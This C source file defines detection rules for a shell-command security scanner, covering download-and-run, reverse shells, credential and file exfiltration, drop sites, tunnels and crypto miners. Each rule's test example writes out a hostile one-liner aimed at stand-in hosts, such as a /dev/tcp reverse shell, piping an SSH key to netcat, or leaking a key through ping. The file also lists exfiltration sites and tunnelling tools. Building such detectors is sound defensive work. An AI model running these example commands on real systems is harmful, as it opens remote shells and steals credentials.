/* SPDX-License-Identifier: Apache-2.0 */
/* Code that comes from the network, shells that go there, and secrets that leave. */
#include "inspect/shell/net.h"
#include "inspect/shell/provider.h"
#include "inspect/shell/rule.h"

#include "base/str.h"

#include <string.h>

/* Installers that projects themselves tell people to run. */
static const char *const network_installers[] = {
	"sh.rustup.rs",
	"get.docker.com",
	"astral.sh",
	"bun.sh",
	"deno.land",
	"install.python-poetry.org",
	"get.pnpm.io",
	"deb.nodesource.com",
	"rpm.nodesource.com",
	"get.sdkman.io",
	"mise.run",
	"starship.rs",
	"get.helm.sh",
	"tailscale.com",
	"ollama.com",
	"bootstrap.pypa.io",
	"get-ghcup.haskell.org",
	"nixos.org",
	"get.k3s.io",
	"fnm.vercel.app",
	"foundry.paradigm.xyz",
	"install.determinate.systems",
	"cli.github.com",
	"pyenv.run",
	"raw.githubusercontent.com",
};

static bool network_is_installer(const struct shell_model *m, const struct shell_command *c)
{
	bool has_other = false, has_known = false;

	for (size_t i = 0; i < m->n; i++) {
		const struct net_host *hosts = m->commands[i].hosts;

		for (size_t k = 0; k < m->commands[i].n_hosts; k++) {
			bool is_known = net_is_local(&hosts[k]);

			for (size_t j = 0;
			     j < sizeof(network_installers) / sizeof(network_installers[0]); j++)
				is_known = is_known ||
					   strcasecmp(hosts[k].name, network_installers[j]) == 0;
			has_known = has_known || is_known;
			has_other = has_other || !is_known;
		}
	}
	(void)c;
	return has_known && !has_other;
}

static bool network_runs(const struct shell_model *m, const struct shell_command *c)
{
	return (c->runs & TAINT_REMOTE) && strcmp(c->name, "chmod") != 0 &&
	       !network_is_installer(m, c);
}

static bool network_installs(const struct shell_model *m, const struct shell_command *c)
{
	return (c->runs & TAINT_REMOTE) && network_is_installer(m, c);
}

static bool network_executable(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return c->runs & TAINT_REMOTE;
}

static bool network_decoded(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return c->runs & TAINT_DECODED;
}

static bool network_input(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (c->runs & TAINT_INPUT) && (c->via & VIA_LOOP);
}

static bool network_substituted(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return c->n > 0 && (c->argv[0].taint & (TAINT_REMOTE | TAINT_DECODED));
}

/* `id`: the output of a command is run as a command */
static bool network_output(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return c->n > 0 && (c->argv[0].taint & TAINT_IDENTITY) && (c->argv[0].flags & WORD_UNKNOWN);
}

/* A shell whose streams are a connection. */
static bool network_shell(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (!rule_is_shell(c->name) || !(c->via & VIA_NETWORK))
		return false;
	/* bash -i > /dev/tcp/…: nobody can type */
	if (c->n_redirects > 0 && !c->in_is_network) {
		bool dups_in = false;

		for (size_t i = 0; i < c->n_redirects; i++)
			dups_in = dups_in || (c->redirects[i].kind == REDIRECT_DUP &&
					      strcmp(c->redirects[i].fd, "0") == 0);
		return dups_in;
	}
	return c->n == 1 || c->argv[1].s[0] == '-';
}

/* cat fifo | sh -i | nc host port */
static bool network_piped_shell(const struct shell_model *m, const struct shell_command *c)
{
	size_t i = (size_t)(c - m->commands);

	if (!rule_is_shell(c->name) || rule_has(c, "-c"))
		return false;
	if (!(c->has_in || rule_has(c, "-i|-s")))
		return false;
	for (size_t k = i + 1; k < m->n; k++) {
		const struct shell_command *d = &m->commands[k];

		if (d->group == c->group && d->has_in &&
		    (rule_is("nc ncat netcat telnet socat", d->name) ||
		     (strcmp(d->name, "openssl") == 0 && rule_says(d, "s_client"))))
			return true;
	}
	return false;
}

static bool network_device(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 0; i < c->n_redirects; i++)
		if (str_starts(c->redirects[i].target.s, "/dev/tcp/") ||
		    str_starts(c->redirects[i].target.s, "/dev/udp/"))
			return true;
	return false;
}

static bool network_zsh(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return strcmp(c->name, "zmodload") != 0 || rule_says(c, "zsh/net/");
}

static bool network_secret(const struct shell_model *m, const struct shell_command *c)
{
	return (c->sends & TAINT_SECRET) && !rule_is_local(m, c) &&
	       !rule_is("getent host ssh", c->name);
}

static bool network_identity(const struct shell_model *m, const struct shell_command *c)
{
	return (c->sends & TAINT_IDENTITY) && !rule_is_local(m, c) &&
	       strcmp(c->name, "getent") != 0;
}

/* A credential of one provider goes to hosts of which none is that provider's. */
static bool network_astray(const struct shell_model *m, const struct shell_command *c)
{
	unsigned taint = c->sends | (c->has_in ? c->in.taint : 0);

	/* a signed request does not carry the key */
	if (m->providers == 0 || c->n_hosts == 0 || rule_says(c, "--aws-sigv4") ||
	    rule_is_local(m, c))
		return false;
	for (size_t i = 1; i < c->n; i++)
		taint |= c->argv[i].taint;
	for (size_t i = 0; i < c->n_hosts; i++)
		if (!strchr(c->hosts[i].name, '.') || provider_has(m->providers, c->hosts[i].name))
			return false;
	return taint & TAINT_KEY;
}

static bool network_archive(const struct shell_model *m, const struct shell_command *c)
{
	return (c->sends & TAINT_ARCHIVE) && !rule_is_local(m, c) &&
	       !rule_is("ssh scp rsync", c->name);
}

static bool network_home(const struct shell_model *m, const struct shell_command *c)
{
	return c->sends && (rule_operands(m, c) & PLACE(HOME)) && !rule_is_local(m, c);
}

static bool network_each(const struct shell_model *m, const struct shell_command *c)
{
	return (c->sends & TAINT_FILE) && (c->via & (VIA_EACH | VIA_LOOP)) &&
	       !rule_is_local(m, c) && rule_is("curl wget http nc ncat scp", c->name);
}

static bool network_is_filled(const struct shell_command *c)
{
	for (size_t i = 1; i < c->n; i++)
		if ((c->argv[i].flags & (WORD_UNKNOWN | WORD_EXPANDED)) &&
		    !strstr(c->argv[i].s, "://"))
			return true;
	return false;
}

/* Data that is thrown at a place where anybody can pick it up. */
static bool network_drop(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const hosts[] = {"transfer.sh",
					    "pastebin.com",
					    "0x0.st",
					    "webhook.site",
					    "requestbin",
					    "ngrok",
					    "interact.sh",
					    "oast.",
					    "burpcollaborator",
					    "file.io",
					    "ix.io",
					    "termbin.com",
					    "hastebin",
					    "paste.ee",
					    "requestcatcher",
					    "pipedream.net",
					    "beeceptor",
					    "api.telegram.org/bot",
					    "discord.com/api/webhooks",
					    "discordapp.com/api/webhooks",
					    "hooks.slack.com",
					    "temp.sh",
					    "bashupload",
					    "gofile.io",
					    "anonfiles",
					    "canarytokens",
					    "dnslog",
					    "ceye.io",
					    "paste.rs"};

	(void)m;
	static const char *const messengers[] = {"hooks.slack.com", "api.telegram.org/bot",
						 "discord.com/api/webhooks",
						 "discordapp.com/api/webhooks"};

	if (rule_is("echo printf grep rg", c->name))
		return false;
	/* A sentence for a channel is ordinary; a file or what a command printed is not. */
	for (size_t i = 0; i < sizeof(messengers) / sizeof(messengers[0]); i++)
		if (rule_says(c, messengers[i]))
			return c->sends || c->is_sending || rule_says(c, "=@") ||
			       rule_says(c, "=<") ||
			       rule_has(c, "-T|--upload-file|-F|--form|--data-binary") ||
			       network_is_filled(c);
	for (size_t i = 0; i < sizeof(hosts) / sizeof(hosts[0]); i++)
		for (size_t k = 1; k < c->n; k++)
			if (strcasestr(c->argv[k].s, hosts[i]))
				return rule_is("curl wget http nc ncat", c->name) || c->sends;
	return false;
}

static bool network_ping(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_has(c, "-p") && c->sends;
}

static bool network_forward(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_has(c, "-R");
}

static bool network_is_forge(const char *s)
{
	return strstr(s, "github.com") || strstr(s, "gitlab.com") || strstr(s, "bitbucket.org") ||
	       strstr(s, "codeberg.org") || strstr(s, "sr.ht");
}

/* git+ssh://host/x from where nobody looks */
static bool network_is_odd_forge(const char *s)
{
	return strstr(s, "git+") && strstr(s, "://") && !network_is_forge(s);
}

static bool network_pip(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;

		if (str_starts(s, "http://") || str_starts(s, "git+http://") ||
		    strstr(s, "@http://") || strstr(s, "@https://") || network_is_odd_forge(s) ||
		    (str_starts(s, "https://") &&
		     !rule_is("--index-url -i --extra-index-url -f --find-links --registry --git",
			      c->argv[i - 1].s)) ||
		    (strcmp(c->argv[i - 1].s, "--git") == 0 && !network_is_forge(s)) ||
		    str_starts(s, "--trusted-host") || strstr(s, "-url=http://") ||
		    strstr(s, "registry=http://") || str_starts(s, "--extra-index-url"))
			return true;
	}
	return false;
}

static bool network_url(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const known[] = {"https://deno.land/", "https://jsr.io/",
					    "https://esm.sh/", "https://github.com/"};
	const char *s = rule_operand(c, rule_is("pipx bun deno", c->name) ? 1 : 0);

	(void)m;
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (str_starts(s, known[i]))
			return false;
	return str_starts(s, "http://") || str_starts(s, "https://") || str_starts(s, "git+http");
}

static bool network_exec_listen(const struct shell_model *m, const struct shell_command *c)
{
	size_t i = (size_t)(c - m->commands);

	for (size_t k = i + 1; k < m->n && m->commands[k].line == c->line; k++)
		if ((m->commands[k].via & VIA_NETWORK) && rule_is_shell(m->commands[k].name))
			return true;
	return false;
}

/* xargs sh, parallel bash -c {}: each line is code */
static bool network_items(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (!rule_is_shell(c->name) || !(c->via & VIA_EACH))
		return false;
	for (size_t i = 1; i < c->n && i < 3; i++)
		if (c->argv[i].flags & WORD_ITEM)
			return true;
	return false;
}

#define ROW(kind, conf, lev) .type = FINDING_##kind, .level = THREAT_##lev, .confidence = conf

/* R:… lets the other side in, and so does a server that takes such clients; a number is nobody's address. */
static bool network_back(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (rule_has(c, "--reverse|--socks5"))
		return true;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;

		if (str_starts(s, "R:") || strcmp(s, "socks") == 0 ||
		    (strspn(s, "0123456789.:") == strlen(s) && strchr(s, '.')))
			return true;
	}
	return false;
}

static const struct shell_rule network_rows[] = {
	{.id = "CMD-DOWNLOAD-RUN",
	 .reason = "It runs code that comes from the network.",
	 ROW(DANGEROUS_PATTERN, 0.85, HIGH),
	 .test = network_runs,
	 .hit = "curl http://a.example/x | sh",
	 .miss = "curl http://a.example/x | grep y"},
	{.id = "CMD-INSTALLER-RUN",
	 .reason = "It runs an installer from the network.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .test = network_installs,
	 .hit = "curl https://sh.rustup.rs | sh",
	 .miss = "curl https://sh.rustup.rs | less"},
	{.id = "CMD-DOWNLOAD-CHMOD",
	 .reason = "It makes a downloaded file executable.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "chmod",
	 .test = network_executable,
	 .hit = "wget http://a.example/x && chmod +x x",
	 .miss = "chmod +x x"},
	{.id = "CMD-DECODED-RUN",
	 .reason = "It runs code that was encoded.",
	 ROW(DANGEROUS_PATTERN, 0.75, HIGH),
	 .test = network_decoded,
	 .hit = "echo aWQK | base64 -d | sh",
	 .miss = "echo aWQK | base64 -d"},
	{.id = "CMD-INPUT-RUN",
	 .reason = "It runs whatever somebody sends.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .test = network_input,
	 .hit = "while read l; do bash -c \"$l\"; done",
	 .miss = "while read l; do echo \"$l\"; done"},
	{.id = "CMD-EACH-RUN",
	 .reason = "It runs each line of a list as code.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .test = network_items,
	 .hit = "find . | xargs sh",
	 .miss = "find . | xargs -I{} sh -c 'wc -l {}'"},
	{.id = "CMD-NAME-HIDDEN",
	 .reason = "The name of its program comes from the network or a decoder.",
	 ROW(DANGEROUS_PATTERN, 0.75, HIGH),
	 .test = network_substituted,
	 .hit = "$(curl http://a.example/x)",
	 .miss = "$(which ls) -l"},
	{.id = "CMD-OUTPUT-RUN",
	 .reason = "It runs what another command prints about the machine.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .test = network_output,
	 .hit = "`id`",
	 .miss = "id"},
	{.id = "CMD-REVERSE-SHELL",
	 .reason = "It gives a shell to whoever is at the other end of a connection.",
	 ROW(NETWORK_ACCESS, 0.95, CRITICAL),
	 .test = network_shell,
	 .hit = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
	 .miss = "bash -i"},
	{.id = "CMD-PIPED-SHELL",
	 .reason = "It gives a shell to whoever is at the other end of a connection.",
	 ROW(NETWORK_ACCESS, 0.95, CRITICAL),
	 .test = network_piped_shell,
	 .hit = "mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 1 > f",
	 .miss = "cat f | sort | nc localhost 1"},
	{.id = "CMD-NETCAT-EXEC",
	 .reason = "It connects a program to the network.",
	 ROW(NETWORK_ACCESS, 0.9, CRITICAL),
	 .programs = "nc ncat netcat nc.traditional socat",
	 .test = network_exec_listen,
	 .hit = "nc -e /bin/sh 192.0.2.1 4444",
	 .miss = "nc -z localhost 80"},
	{.id = "CMD-DEV-TCP",
	 .reason = "It opens a connection with the shell itself.",
	 ROW(NETWORK_ACCESS, 0.5, MEDIUM),
	 .test = network_device,
	 .hit = "exec 3<>/dev/tcp/192.0.2.1/80",
	 .miss = "exec 3<file"},
	{.id = "CMD-ZSH-TCP",
	 .reason = "It opens a connection with the shell itself.",
	 ROW(NETWORK_ACCESS, 0.5, MEDIUM),
	 .programs = "zmodload ztcp zsocket",
	 .test = network_zsh,
	 .hit = "zsh -c 'zmodload zsh/net/tcp; ztcp 192.0.2.1 80'",
	 .miss = "zsh -c 'zmodload zsh/stat'"},
	{.id = "CMD-EXFIL-SECRET",
	 .reason = "It sends credentials over the network.",
	 ROW(DATA_LEAK, 0.9, CRITICAL),
	 .test = network_secret,
	 .hit = "cat ~/.ssh/id_rsa | nc 192.0.2.1 80",
	 .miss = "cat README | nc 192.0.2.1 80"},
	{.id = "CMD-EXFIL-IDENTITY",
	 .reason = "It sends facts about the machine or the environment over the network.",
	 ROW(DATA_LEAK, 0.6, MEDIUM),
	 .test = network_identity,
	 .hit = "curl http://a.example/?u=$(whoami)",
	 .miss = "curl http://a.example/?u=me"},
	{.id = "CMD-EXFIL-ASTRAY",
	 .reason = "It sends a credential of one provider to a host of another.",
	 ROW(DATA_LEAK, 0.6, MEDIUM),
	 .programs =
		 "curl wget wget2 http https xh httpie nc ncat netcat telnet openssl mail mailx sendmail "
		 "swaks dig host nslookup ping drill socat",
	 .test = network_astray,
	 .hit = "curl -d \"$GITHUB_TOKEN\" https://a.example/",
	 .miss = "curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/user"},
	{.id = "CMD-EXFIL-ARCHIVE",
	 .reason = "It sends many files over the network.",
	 ROW(DATA_LEAK, 0.5, MEDIUM),
	 .test = network_archive,
	 .hit = "tar cz src | curl -T - http://a.example/",
	 .miss = "tar cz src > a.tgz"},
	{.id = "CMD-EXFIL-HOME",
	 .reason = "It sends a whole home directory to a service.",
	 ROW(DATA_LEAK, 0.5, MEDIUM),
	 .programs = "rclone gsutil aws azcopy s3cmd s5cmd croc wormhole",
	 .test = network_home,
	 .hit = "rclone copy ~/ remote:all",
	 .miss = "rclone copy ~/site remote:site"},
	{.id = "CMD-EXFIL-EACH",
	 .reason = "It sends many files over the network.",
	 ROW(DATA_LEAK, 0.5, MEDIUM),
	 .test = network_each,
	 .hit = "for f in *; do curl -T \"$f\" http://a.example/; done",
	 .miss = "for f in *; do cat \"$f\"; done"},
	{.id = "CMD-DROP-SITE",
	 .reason = "It sends something to a site where strangers pick up data.",
	 ROW(DATA_LEAK, 0.5, MEDIUM),
	 .test = network_drop,
	 .hit = "curl -T a https://transfer.sh/a",
	 .miss = "echo https://transfer.sh/a"},
	{.id = "CMD-PING-DATA",
	 .reason = "It hides data in pings.",
	 ROW(DATA_LEAK, 0.7, MEDIUM),
	 .programs = "ping",
	 .test = network_ping,
	 .hit = "ping -p $(cat ~/.ssh/id_rsa | xxd -p) 192.0.2.1",
	 .miss = "ping -c 1 192.0.2.1"},
	{.id = "CMD-SSH-REVERSE",
	 .reason = "It opens a way back in through another machine.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "ssh autossh",
	 .test = network_forward,
	 .hit = "ssh -R 2222:localhost:22 a.example",
	 .miss = "ssh -L 8080:localhost:80 a.example"},
	{.id = "CMD-TUNNEL-BACK",
	 .reason = "It opens a way back into this network.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "chisel",
	 .test = network_back,
	 .hit = "chisel client 192.0.2.1:80 R:1:localhost:1",
	 .miss = "chisel server --port 80"},
	{.id = "CMD-TUNNEL",
	 .reason = "It opens a tunnel past the firewall.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs =
		 "rcat cryptcat powercat sbd pwncat-cs frpc frps ligolo-ng iodine dnscat2 dnscat ptunnel gost sliver pwncat revsocks rathole bore sshuttle merlinAgent",
	 .hit = "dnscat2 a.example",
	 .miss = "curl localhost"},
	{.id = "CMD-PIP-URL",
	 .reason = "It installs a package from outside the usual index.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "pip pip3 npm gem easy_install pipx pnpm yarn cargo",
	 .words = "install|i|add|download|wheel",
	 .test = network_pip,
	 .hit = "pip install http://a.example/x.tar.gz",
	 .miss = "pip install requests"},
	{.id = "CMD-RUN-URL",
	 .reason = "It fetches a program from an address and runs it.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "npx bunx uvx pipx bun deno",
	 .test = network_url,
	 .hit = "npx --yes https://192.0.2.1/x.tgz",
	 .miss = "npx --yes prettier"},
	{.id = "CMD-MINER",
	 .reason = "It mines money with this machine.",
	 ROW(DANGEROUS_PATTERN, 0.9, HIGH),
	 .programs =
		 "xmrig minerd cpuminer ccminer ethminer cgminer t-rex nbminer phoenixminer xmr-stak lolMiner "
		 "kinsing kdevtmpfsi nanominer gminer teamredminer xmr-stak-rx srbminer-multi bfgminer bzminer",
	 .hit = "xmrig -o pool.example:3333",
	 .miss = "nproc"},
};

const struct shell_rules shell_rules_network = {network_rows,
						sizeof(network_rows) / sizeof(network_rows[0])};
